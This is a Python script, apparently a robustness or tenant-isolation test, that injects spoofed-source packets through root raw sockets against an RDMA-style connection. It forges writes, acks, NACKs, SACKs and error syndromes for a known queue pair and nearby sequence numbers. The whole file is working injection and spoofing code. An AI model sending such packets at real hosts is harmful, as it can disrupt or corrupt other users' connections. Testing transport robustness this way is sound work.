#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0 OR Linux-OpenIB
"""Sends the packets that could do most harm to a connection, from a raw socket of root,
as if the queue pair numbers and PSNs were known.

usage: tenants.py FROM TO QPN PSN COUNT [FROM-MAC TO-MAC]
FROM: source address of the packets. PSN: a PSN near those in use. With hardware addresses
the packets are sent as frames out of eth0.
Prints how many packets the kernel took."""
import random
import socket
import sys

import mrc_nobody
import mrc_packets as m


def bodies(qpn, psn):
    """One of each kind, for PSNs around the given one."""
    near = (psn + random.randrange(-64, 64)) & m.PSN_MASK
    key = random.getrandbits(32)
    yield m.write(m.WRITE_ONLY, qpn, near, 0x1000, key, bytes(64))
    yield m.ack(qpn, near)
    yield m.ack(qpn, near, syndrome=0x62)       # remote access error
    yield m.sack(qpn, near, bitmap=(1 << 64) - 1)
    yield m.nack(qpn, near, 0)
    yield m.probe(qpn, random.getrandbits(16))
    yield m.endpoint_request(random.getrandbits(16), 0, mask=0)


def main():
    source, to, qpn, psn, count = sys.argv[1:6]
    head, where = b'', (to, 0)
    if len(sys.argv) > 6:
        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        where = ('eth0', 0x0800)
        head = b''.join(bytes.fromhex(mac.replace(':', ''))
                        for mac in (sys.argv[7], sys.argv[6])) + b'\x08\x00'
    else:
        sock = socket.socket(mrc_nobody.family(to), socket.SOCK_RAW,
                             socket.IPPROTO_RAW)
    taken = 0
    while taken < int(count):
        for body in bodies(int(qpn), int(psn)):
            sock.sendto(head + m.ip_udp(source, to, body), where)
            taken += 1
    print(taken)


if __name__ == '__main__':
    main()
